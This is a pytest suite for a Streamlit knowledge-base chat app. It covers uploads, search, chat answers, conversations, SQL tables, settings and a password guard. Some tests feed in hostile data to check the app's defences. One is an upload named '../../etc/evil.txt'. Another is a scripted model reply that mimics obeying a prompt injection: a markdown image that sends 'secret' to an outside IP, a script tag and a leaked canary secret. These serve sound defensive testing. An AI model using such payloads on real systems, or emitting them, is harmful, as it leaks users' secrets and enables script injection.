"""The Streamlit app through AppTest: every page, over the real core with the fake embedder.

``tests/scripted_app.py`` runs the same app over a scripted chat model where the wording of an
answer matters; otherwise the fake backend answers extractively (first sentence of source 1).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import streamlit as st
from langchain_core.messages import AIMessage
from streamlit.testing.v1 import AppTest

from kb_assistant.assistant import Assistant, build_assistant
from kb_assistant.models.embeddings import HashEmbedder
from kb_assistant.settings import load_settings
from kb_assistant.ui.render import conversation_markdown
from kb_assistant.ui.state import job_board
from tests import scripted_app

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "app.py")
SCRIPTED = str(ROOT / "tests" / "scripted_app.py")
CHAT, TABLES, SETTINGS = "ui/pages/chat.py", "ui/pages/tables.py", "ui/pages/settings_page.py"


@pytest.fixture(autouse=True)
def fresh_caches(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Each test builds its own Assistant and job board (AppTest shares the process)."""
    st.cache_resource.clear()
    monkeypatch.setattr(scripted_app, "REPLIES", [])
    monkeypatch.setattr(scripted_app, "NATIVE_TOOLS", False)
    yield
    st.cache_resource.clear()


def open_app(page: str | None = None, script: str = APP) -> AppTest:
    at = AppTest.from_file(script, default_timeout=30).run()
    if page is not None:
        prefix = "../" if script == SCRIPTED else ""
        at.switch_page(prefix + page).run()
    assert not at.exception, at.exception
    return at


def seed(kb_home: Path, tmp_path: Path) -> Assistant:
    a = build_assistant(load_settings(kb_home), embeddings=HashEmbedder())
    (tmp_path / "network.md").write_text(
        "# Network\n\nifupdown configures network interfaces. It reads /etc/network/interfaces.",
        encoding="utf-8",
    )
    (tmp_path / "apt.txt").write_text("apt installs packages.", encoding="utf-8")
    a.ingest([tmp_path])
    return a


def labelled(elements: Any, label: str) -> Any:
    return next(e for e in elements if e.label == label)


def markdown(at: AppTest) -> str:
    return "\n".join(m.value for m in at.markdown)


# --- documents ------------------------------------------------------------------------------


def test_empty_home_shows_the_default_knowledge_base() -> None:
    at = open_app()
    assert at.title[0].value == "Documents in default"
    assert any("empty" in i.value for i in at.info)


def test_create_knowledge_base_from_the_sidebar(kb_home: Path) -> None:
    at = open_app()
    at.sidebar.text_input[0].input("项目资料")
    at.sidebar.button[0].click().run()
    assert not at.exception
    assert (kb_home / "kbs" / "项目资料" / "manifest.json").is_file()
    assert at.title[0].value == "Documents in 项目资料"


def test_upload_ingests_in_the_background_and_reports_each_file(kb_home: Path) -> None:
    at = open_app()
    at.file_uploader[0].set_value([
        ("notes.md", b"# Notes\n\nThe backup runs at 02:00.", "text/markdown"),
        ("../../etc/evil.txt", b"Paths from the browser are not trusted.", "text/plain"),
        ("broken.pdf", b"%PDF-1.4 this is not really a PDF", "application/pdf"),
    ]).run()  # fmt: skip
    at.button[0].click().run()
    assert not at.exception
    assert job_board(str(kb_home)).wait(30)
    at.run()
    results = at.dataframe[0].value
    outcome = dict(zip(results["File"], results["Result"], strict=True))
    assert outcome == {"notes.md": "added", "../../etc/evil.txt": "added", "broken.pdf": "failed"}
    reason = results[results["File"] == "broken.pdf"]["Reason"].item()
    assert reason, "a failed file says why"
    names = sorted(at.dataframe[1].value["Name"])
    assert names == ["../../etc/evil.txt", "notes.md"]  # the browser's name, as a label only
    # Uploads are stored under KB_HOME with generated names; nothing was written elsewhere.
    stored = sorted(p.name for p in (kb_home / "uploads").rglob("*") if p.is_file())
    assert stored == ["upload.md", "upload.pdf", "upload.txt"]
    assert not (kb_home.parent / "etc").exists()


def test_documents_are_listed_and_can_be_deleted(kb_home: Path, tmp_path: Path) -> None:
    seed(kb_home, tmp_path).close()
    at = open_app()
    table = at.dataframe[0].value
    assert sorted(table["Name"]) == ["apt.txt", "network.md"]
    assert list(table.columns) == ["Name", "Pages", "Chunks", "Added", "Notes"]
    at.multiselect[0].select(at.multiselect[0].options[0]).run()
    at.button[0].click().run()
    assert not at.exception
    remaining = build_assistant(load_settings(kb_home), embeddings=HashEmbedder()).documents()
    assert len(remaining) == 1


def test_search_highlights_matching_words_as_text(kb_home: Path, tmp_path: Path) -> None:
    seed(kb_home, tmp_path).close()
    at = open_app()
    labelled(at.text_input, "Search your documents").input("network interfaces").run()
    assert not at.exception
    assert any(c.value.startswith("\\[1\\] network\\.md") for c in at.caption)
    body = markdown(at)
    assert ":orange-background[interfaces]" in body
    assert "It reads \\/etc\\/" in body  # punctuation escaped: shown as written


# --- chat -----------------------------------------------------------------------------------


def test_ask_streams_an_answer_with_source_cards_and_a_trace(kb_home: Path, tmp_path: Path) -> None:
    seed(kb_home, tmp_path).close()
    at = open_app(CHAT)
    at.chat_input[0].set_value("How are network interfaces configured?").run()
    assert not at.exception
    assert "ifupdown configures network interfaces" in markdown(at)
    labels = [e.label for e in at.expander]
    assert "\\[1\\] network\\.md" in labels
    assert "Why this answer" in labels
    card = next(e for e in at.expander if e.label == "\\[1\\] network\\.md")
    assert ":orange-background[interfaces]" in "".join(m.value for m in card.markdown)
    metrics = {m.label: m.value for m in at.metric}
    assert int(metrics["Prompt tokens"]) > 0
    sessions = build_assistant(load_settings(kb_home)).conversations.conversations()
    assert [s.title for s in sessions] == ["How are network interfaces configured?"]


def test_a_follow_up_says_it_continued_the_conversation(kb_home: Path, tmp_path: Path) -> None:
    seed(kb_home, tmp_path).close()
    at = open_app(CHAT)
    at.chat_input[0].set_value("How are network interfaces configured?").run()
    at.chat_input[0].set_value("Which file does ifupdown read for network interfaces?").run()
    assert not at.exception
    traces = [e for e in at.expander if e.label == "Why this answer"]
    assert len(traces) == 2
    said = [" ".join(c.value for c in e.caption) for e in traces]
    assert "continued" not in said[0] and "prompt was continued" in said[1]


def test_an_abstention_is_shown_as_such(kb_home: Path, tmp_path: Path) -> None:
    seed(kb_home, tmp_path).close()
    at = open_app(CHAT)
    at.chat_input[0].set_value("Who won the 1998 football world cup?").run()
    assert not at.exception
    assert at.warning and "cover this" in at.warning[0].value
    assert any("no answer was made up" in c.value for c in at.caption)
    assert not [e for e in at.expander if e.label.startswith("\\[")]


def test_an_answer_shows_no_image_no_html_and_no_secret(kb_home: Path, tmp_path: Path) -> None:
    """Hardening item 18: a model that obeys a document's injection, as the UI shows it."""
    seed(kb_home, tmp_path).close()
    scripted_app.REPLIES[:] = [
        "ifupdown [1] ![x](http://203.0.113.9/?q=secret) <img src=http://203.0.113.9/a.png> "
        "<script>alert(1)</script> :red[red] $x$ " + scripted_app.SECRET
    ]
    at = open_app(CHAT, script=SCRIPTED)
    at.chat_input[0].set_value("How are network interfaces configured?").run()
    assert not at.exception
    shown = next(m.value for m in at.markdown if "ifupdown" in m.value)
    # Sentences no passage supports are dimmed and marked (chains.support): that markup is
    # ours; what the model wrote must be escaped inside it.
    assert ":orange[*(not found in the sources)*]" in shown
    answer = re.sub(r":gray\[|\] :orange\[\*\(not found in the sources\)\*\]", "", shown)
    system = str(scripted_app.MODELS[-1].calls[0][0].content)
    canary = re.findall(r"code: (\w+)\.", system)[0]
    assert "203" not in markdown(at) and canary not in markdown(at)
    assert "code\\: \\[…\\]" in answer, "the secret's place is marked"
    assert "\\<script" in answer and "were removed" in answer
    assert not re.search(r"(?<!\\)[<>\[\]!$]", answer), "every markup character is escaped"
    assert ":red[" not in answer and "\\$x\\$" in answer
    assert all(m.allow_html is False for m in at.markdown)
    said = " ".join(c.value for c in at.caption)
    assert "Removed from the answer: the assistant's secret, 1 time(s), 1 HTML tag(s)" in said


def test_conversations_reopen_rename_export_and_delete(kb_home: Path, tmp_path: Path) -> None:
    seed(kb_home, tmp_path).close()
    at = open_app(CHAT)
    at.chat_input[0].set_value("How are network interfaces configured?").run()
    # A new browser session: the conversation is listed and reopens with its answer.
    st.cache_resource.clear()
    at = open_app(CHAT)
    listed = [b for b in at.sidebar.button if (b.key or "").startswith("open-")]
    assert len(listed) == 1 and listed[0].label.startswith("How are network interfaces")
    assert "ifupdown" not in markdown(at), "a new browser session starts a new conversation"
    listed[0].click().run()
    assert "ifupdown configures network interfaces" in markdown(at)
    at.sidebar.text_input[-1].input("Interfaces").run()
    next(b for b in at.sidebar.button if b.label == "Rename").click().run()
    chats = build_assistant(load_settings(kb_home)).conversations
    assert [s.title for s in chats.conversations()] == ["Interfaces"]
    info = chats.conversations()[0]
    exported = conversation_markdown(info, chats.turns(info.session_id))
    assert exported.startswith("# Interfaces") and "network\\.md" in exported
    next(b for b in at.sidebar.button if b.label == "Delete conversation").click().run()
    assert not at.exception
    assert build_assistant(load_settings(kb_home)).conversations.conversations() == []


def test_a_queued_question_says_it_waits_for_the_model(kb_home: Path, tmp_path: Path) -> None:
    seed(kb_home, tmp_path).close()
    scripted_app.WAIT_FIRST = True
    at = open_app(CHAT, script=SCRIPTED)
    at.chat_input[0].set_value("How are network interfaces configured?").run()
    assert not at.exception
    trace = next(e for e in at.expander if e.label == "Why this answer")
    assert any("Waited" in c.value for c in trace.caption)


# --- tables ---------------------------------------------------------------------------------


def test_tables_upload_browse_and_ask_with_steps_sql_rows_and_chart(kb_home: Path) -> None:
    sql = 'SELECT "region", SUM("amount") AS total FROM "sales" GROUP BY "region" ORDER BY 1'
    scripted_app.NATIVE_TOOLS = True
    scripted_app.REPLIES[:] = [
        AIMessage(content="", tool_calls=[{"name": "run_sql", "args": {"sql": sql}, "id": "c1"}]),
        AIMessage(content="North sold the most."),
    ]  # fmt: skip
    at = open_app(TABLES, script=SCRIPTED)
    csv = b"region,amount\nNorth,10\nSouth,4\nNorth,5\nEast,7\n"
    at.file_uploader[0].set_value(("sales.csv", csv, "text/csv"))
    at.text_input[0].input("sales")
    next(b for b in at.button if b.label == "Add table").click().run()
    assert not at.exception
    assert "sales (4)" in at.success[0].value
    assert any(e.label.startswith("sales") for e in at.expander)
    at.chat_input[0].set_value("Which region sold the most?").run()
    assert not at.exception
    assert at.status[0].label.startswith("1 step(s)")
    assert any(c.value == sql for c in at.code)
    frame = at.dataframe[0].value
    assert frame.values.tolist() == [["East", 7], ["North", 15], ["South", 4]]
    assert "North sold the most\\." in markdown(at)
    assert at.get("vega_lite_chart"), "a small numeric series is charted"


def test_a_database_url_that_does_not_open_is_reported(kb_home: Path, tmp_path: Path) -> None:
    at = open_app(TABLES)
    at.text_input[1].input(f"sqlite:///{tmp_path / 'missing.db'}")
    at.text_input[2].input("shop")
    next(b for b in at.button if b.label == "Connect").click().run()
    assert not at.exception
    assert at.error and "missing.db" in at.error[0].value


# --- settings and languages -----------------------------------------------------------------


def test_settings_persist_between_runs(kb_home: Path) -> None:
    at = open_app(SETTINGS)
    assert any(m.label == "RAM needed" for m in at.metric), "memory estimate before loading"
    inputs = {n.label: n for n in at.number_input}
    inputs["Context size (tokens)"].set_value(2048)
    inputs["Passages retrieved (k)"].set_value(12)
    sliders = {s.label: s for s in at.slider}
    sliders["Temperature"].set_value(0.7)
    next(b for b in at.button if b.label == "Save settings").click().run()
    assert not at.exception
    assert at.success
    saved = load_settings(kb_home)
    assert (saved.context_size, saved.retrieval_k, saved.temperature) == (2048, 12, 0.7)
    st.cache_resource.clear()
    at = open_app(SETTINGS)
    inputs = {n.label: n for n in at.number_input}
    assert inputs["Context size (tokens)"].value == 2048


def test_invalid_settings_are_refused_and_nothing_is_saved(kb_home: Path) -> None:
    at = open_app(SETTINGS)
    inputs = {n.label: n for n in at.number_input}
    inputs["Chunk size (tokens)"].set_value(64)
    inputs["Chunk overlap (tokens)"].set_value(64)
    at.run()
    assert any("chunk_overlap" in e.value for e in at.error)
    assert not [b for b in at.button if b.label == "Save settings"]
    assert not (kb_home / "config.toml").exists()


def test_language_switch_and_default_from_settings(kb_home: Path) -> None:
    at = open_app()
    at.sidebar.selectbox(key="language-picker").set_value("zh").run()
    assert not at.exception
    assert at.title[0].value == "default 中的文档"
    kb_home.mkdir(parents=True, exist_ok=True)
    (kb_home / "config.toml").write_text('ui_language = "zh"\n', encoding="utf-8")
    st.cache_resource.clear()
    at = open_app(SETTINGS)
    assert at.title[0].value == "设置"


def test_a_password_guards_everything(monkeypatch: pytest.MonkeyPatch, kb_home: Path) -> None:
    monkeypatch.setenv("KB_APP_PASSWORD", "s3cret")
    at = open_app()
    assert not at.title or at.title[0].value == "kb-assistant"
    assert not at.dataframe and not at.file_uploader
    at.text_input[0].input("wrong")
    at.button[0].click().run()
    assert at.error and "Wrong password" in at.error[0].value
    at.text_input[0].input("s3cret")
    at.button[0].click().run()
    assert at.title[0].value == "Documents in default"


def test_every_string_exists_in_both_languages() -> None:
    import string

    from kb_assistant.ui.i18n import EN, ZH

    assert set(EN) == set(ZH)
    fields = string.Formatter()
    for key in EN:
        names = {f for _, f, _, _ in fields.parse(EN[key]) if f}
        assert names == {f for _, f, _, _ in fields.parse(ZH[key]) if f}, key


def test_the_server_config_keeps_the_app_private() -> None:
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["address"] == "127.0.0.1"
    assert config["server"]["enableXsrfProtection"] is True
    assert config["browser"]["gatherUsageStats"] is False
    assert config["server"]["maxUploadSize"] > 0


def test_a_pdf_source_card_shows_its_page_highlighted_and_pages_through(
    kb_home: Path, tmp_path: Path
) -> None:
    from tests.files import make_pdf

    a = build_assistant(load_settings(kb_home), embeddings=HashEmbedder())
    make_pdf(tmp_path / "guide.pdf", ["ifupdown configures network interfaces.", "Page two."])
    a.ingest([tmp_path / "guide.pdf"])
    a.close()
    at = open_app(CHAT)
    at.chat_input[0].set_value("How are network interfaces configured?").run()
    assert not at.exception
    card = next(e for e in at.expander if e.label.startswith("\\[1\\] guide\\.pdf"))
    assert [c.value for c in card.caption] == ["Page 1 of 2"]
    assert [type(c).__name__ for c in card.children.values()].count("Image") == 1
    next_page = next(b for b in card.button if b.label == "▶")
    next_page.click().run()
    card = next(e for e in at.expander if e.label.startswith("\\[1\\] guide\\.pdf"))
    assert [c.value for c in card.caption] == ["Page 2 of 2"]
